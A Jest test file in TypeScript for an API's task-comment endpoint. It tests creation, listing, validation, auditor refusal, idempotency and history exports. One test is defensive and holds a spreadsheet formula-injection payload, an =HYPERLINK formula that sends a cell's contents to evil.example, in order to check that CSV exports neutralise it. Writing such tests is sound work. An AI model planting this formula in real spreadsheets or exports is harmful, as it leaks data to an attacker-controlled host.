import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Response } from 'superagent';
import { csvObjects } from './support/audit-csv.js';
import { bearer, startTestApp, type TestApp } from './support/test-app.js';
import { WrittenSoFar } from './support/written-so-far.js';

const asText = (res: Response, done: (err: Error | null, body: string) => void) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (chunk: string) => (body += chunk));
  res.on('end', () => done(null, body));
};

describe('comments on tasks', () => {
  let t: TestApp;
  let manager: string;
  let sales: string;
  let auditor: string;
  let writes: WrittenSoFar;

  beforeAll(async () => {
    t = await startTestApp();
    manager = await t.principal('launch-manager', undefined, 'Lee Manager');
    sales = await t.principal('department', 'sales', 'Sam Sales');
    auditor = await t.principal('auditor');
    writes = new WrittenSoFar(t);
  });
  afterAll(() => t.close());

  async function createLaunch() {
    const launch = await writes.createLaunch(manager);
    // An engineering task: the commenting sales principal is not its department.
    return { launchId: launch.launchId, taskId: launch.tasks.find((task) => task.kind === 'release')!.taskId };
  }
  const comment = async (launchId: string, taskId: string, text: unknown, token = sales, status = 201, headers: Record<string, string> = {}) =>
    writes.saw(await t.http.post(`/v1/launches/${launchId}/tasks/${taskId}/comments`).set(bearer(token)).set(headers).send({ text }).expect(status));
  const read = (path: string, token = manager) => writes.read(path, token);

  it('records a comment by any department: 201 with the comment and Location; listed oldest first, auditors included', async () => {
    const { launchId, taskId } = await createLaunch();
    const first = await comment(launchId, taskId, '  Release notes drafted.\r\nReview by Friday?  ');
    expect(first.body).toEqual({
      launchId,
      taskId,
      revision: 1,
      position: expect.any(Number),
      commentId: expect.any(String),
      text: 'Release notes drafted.\nReview by Friday?',
      author: { id: expect.any(String), name: 'Sam Sales', role: 'department' },
      at: expect.any(String),
      events: ['TaskCommented'],
    });
    expect(first.headers.location).toBe(`/v1/launches/${launchId}/tasks/${taskId}/comments/${first.body.commentId}`);
    const second = await comment(launchId, taskId, 'Friday works.', manager);

    const listed = (await read(`/v1/launches/${launchId}/tasks/${taskId}/comments`, auditor).expect(200)).body;
    expect(listed.map((c: { text: string; author: { name: string }; revision: number }) => [c.text, c.author.name, c.revision])).toEqual([
      ['Release notes drafted.\nReview by Friday?', 'Sam Sales', 1],
      ['Friday works.', 'Lee Manager', 2],
    ]);
    const { events: _events, position: _position, ...asAnswered } = first.body;
    expect((await read(first.headers.location as string, auditor).expect(200)).body).toEqual(asAnswered);
    expect(listed[1].commentId).toBe(second.body.commentId);
    // A comment changes no task and nothing of the launch but its revision.
    const launch = (await read(`/v1/launches/${launchId}`).expect(200)).body;
    expect(launch.revision).toBe(2);
    expect(launch.tasks.find((task: { taskId: string }) => task.taskId === taskId).status).toBe('open');
  });

  it('refuses auditors (403), bad text (400 problem) and unknown tasks (404), appending nothing', async () => {
    const { launchId, taskId } = await createLaunch();
    const head = await t.headPosition();
    await comment(launchId, taskId, 'I only read', auditor, 403);
    for (const text of ['', '   \n\t ', 'x'.repeat(4001), 'ring the \u0007bell', 'nul\u0000', 42, null]) {
      const refused = await comment(launchId, taskId, text, sales, 400);
      expect(refused.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(refused.body.errors.map((e: { field: string }) => e.field)).toContain('text');
    }
    await t.http.post(`/v1/launches/${launchId}/tasks/${taskId}/comments`).set(bearer(sales)).send({ text: 'hi', extra: 1 }).expect(400);
    await comment(launchId, '00000000-0000-4000-8000-000000000000', 'hello', sales, 404);
    await comment('00000000-0000-4000-8000-000000000000', taskId, 'hello', sales, 404);
    expect(await t.headPosition()).toBe(head);
    await read(`/v1/launches/${launchId}/tasks/00000000-0000-4000-8000-000000000000/comments`).expect(404);
    await read(`/v1/launches/${launchId}/tasks/${taskId}/comments/00000000-0000-4000-8000-000000000000`).expect(404);
    expect((await comment(launchId, taskId, '🚀'.repeat(4000))).body.text).toHaveLength(8000);
  });

  it('honours Idempotency-Key: the repeat gets the first answer and appends nothing', async () => {
    const { launchId, taskId } = await createLaunch();
    const key = { 'Idempotency-Key': 'comment-once' };
    const first = await comment(launchId, taskId, 'Once only', sales, 201, key);
    const repeat = await comment(launchId, taskId, 'Once only', sales, 201, key);
    expect(repeat.body).toEqual(first.body);
    expect(repeat.headers['idempotent-replayed']).toBe('true');
    expect((await read(`/v1/launches/${launchId}/tasks/${taskId}/comments`).expect(200)).body).toHaveLength(1);
    await comment(launchId, taskId, 'Something else', sales, 422, key);
  });

  it('is allowed on a cancelled launch, where every other command is 409', async () => {
    const { launchId, taskId } = await createLaunch();
    writes.saw(await t.http.post(`/v1/launches/${launchId}/cancel`).set(bearer(manager)).send({ reason: 'dropped' }).expect(200));
    await t.http.post(`/v1/launches/${launchId}/tasks/${taskId}/block`).set(bearer(manager)).send({ reason: 'x' }).expect(409);
    await comment(launchId, taskId, 'Why was this dropped?');
    expect((await read(`/v1/launches/${launchId}/tasks/${taskId}/comments`).expect(200)).body.map((c: { text: string }) => c.text)).toEqual([
      'Why was this dropped?',
    ]);
  });

  it('comments are events of the history and its exports; the CSV shows the text and hands a spreadsheet no formula', async () => {
    const { launchId, taskId } = await createLaunch();
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")\n-2+3';
    await comment(launchId, taskId, formula);
    const history = (await read(`/v1/launches/${launchId}/history`, auditor).expect(200)).body.events;
    expect(history.at(-1)).toMatchObject({ type: 'TaskCommented', data: { taskId, text: formula }, metadata: { actor: { name: 'Sam Sales' } } });

    const ndjson = await read(`/v1/launches/${launchId}/history?format=ndjson`, auditor).buffer(true).parse(asText).expect(200);
    const lines = (ndjson.body as string)
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.at(-1)).toMatchObject({ type: 'TaskCommented', data: { text: formula } });

    const csv = await read(`/v1/launches/${launchId}/history?format=csv`, auditor).buffer(true).parse(asText).expect(200);
    const rows = csvObjects(csv.body as string);
    const row = rows.find((r) => r.type === 'TaskCommented')!;
    expect(row.actorName).toBe('Sam Sales');
    expect(JSON.parse(row.data!)).toMatchObject({ taskId, text: formula });
    for (const cells of rows) for (const cell of Object.values(cells)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
